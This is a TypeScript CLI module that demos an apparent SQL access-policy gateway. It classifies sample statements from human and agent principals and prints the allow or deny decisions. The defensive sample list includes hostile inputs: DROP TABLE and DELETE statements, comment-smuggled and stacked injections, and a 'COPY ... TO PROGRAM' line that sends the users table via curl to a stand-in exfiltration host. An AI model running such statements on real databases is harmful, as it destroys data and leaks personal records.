import type { Principal, SqlDialect, Target } from '@gatehouse/core';
import { loadPolicyFile } from '@gatehouse/policy';
import { createSqlClassifier } from '@gatehouse/sql';
import { DEMO_POLICY_FILE } from '../demo/demo-files.js';
import type { CliIo } from './io.js';
import { EXIT_OK } from './io.js';

export const POLICY_DEMO_USAGE = 'gatehouse policy demo';

interface DemoStep {
  readonly who: Principal;
  readonly dialect: SqlDialect;
  readonly sql: string;
}

const ana: Principal = { id: 'ana', groups: ['analysts'], kind: 'human', via: 'demo' };
const dora: Principal = { id: 'dora', groups: ['dba'], kind: 'human', via: 'demo' };
const agent: Principal = { id: 'support-bot', groups: [], kind: 'agent', via: 'demo' };

const STEPS: readonly DemoStep[] = [
  { who: ana, dialect: 'postgres', sql: "SELECT id, email, ssn FROM users WHERE email = 'ana@example.com'" },
  { who: agent, dialect: 'postgres', sql: 'SELECT name, phone FROM users ORDER BY id LIMIT 50' },
  { who: agent, dialect: 'mysql', sql: "UPDATE users SET phone = '555-0100' WHERE id = 7" },
  { who: dora, dialect: 'postgres', sql: 'DROP TABLE users' },
  { who: dora, dialect: 'postgres', sql: 'DELETE FROM sessions' },
  { who: dora, dialect: 'postgres', sql: 'WITH gone AS (DELETE FROM orders WHERE id = 9 RETURNING *) SELECT count(*) FROM gone' },
  { who: ana, dialect: 'mysql', sql: 'SELECT 1 /*!50000 ; DROP TABLE users */' },
  { who: ana, dialect: 'mssql', sql: "SELECT * FROM users DROP TABLE users" },
  { who: dora, dialect: 'postgres', sql: "COPY users TO PROGRAM 'curl -d @- https://exfil.example'" },
  { who: { id: 'eve', groups: [], kind: 'human', via: 'demo' }, dialect: 'postgres', sql: 'SELECT 1' },
];

/**
 * `gatehouse policy demo`: decides a tour of statements with the demo policy and prints what the
 * gateway would do with each, offline (no network, no database). Literals never appear: only the
 * redacted text is shown.
 */
export async function policyDemo(_args: readonly string[], io: CliIo): Promise<number> {
  const policy = await loadPolicyFile(DEMO_POLICY_FILE);
  const classifier = await createSqlClassifier();
  io.out(`Gatehouse policy demo — policy ${DEMO_POLICY_FILE} (${policy.rules.length} rules)\n`);
  for (const step of STEPS) {
    const target: Target = { connection: 'orders', environment: 'prod', dialect: step.dialect, database: 'orders' };
    const actions = classifier.classify(step.sql, { dialect: step.dialect, database: 'orders' });
    const decision = policy.decide({ principal: step.who, target, actions });
    io.out(`${step.who.id} (${step.who.kind}${step.who.groups.length ? `, ${step.who.groups.join('/')}` : ''}) on ${step.dialect}:`);
    for (const action of actions) {
      io.out(`    ${action.redactedText}`);
      io.out(`    → ${action.category} ${action.operation}${action.flags.length ? ` [${action.flags.join(', ')}]` : ''}`);
    }
    io.out(`  ${decision.effect.toUpperCase()} (risk ${decision.risk.score}) — ${decision.reason}`);
    const mask = decision.obligations.mask;
    if (mask && (mask.columns.length > 0 || mask.detectors.length > 0)) {
      io.out(`  masks: ${[...mask.columns.map((c) => `${c.pattern}=${c.strategy.kind}`), ...mask.detectors.map((d) => d.detector)].join(', ')}`);
    }
    io.out('');
  }
  io.out('Try your own: npx gatehouse policy explain --help');
  return EXIT_OK;
}
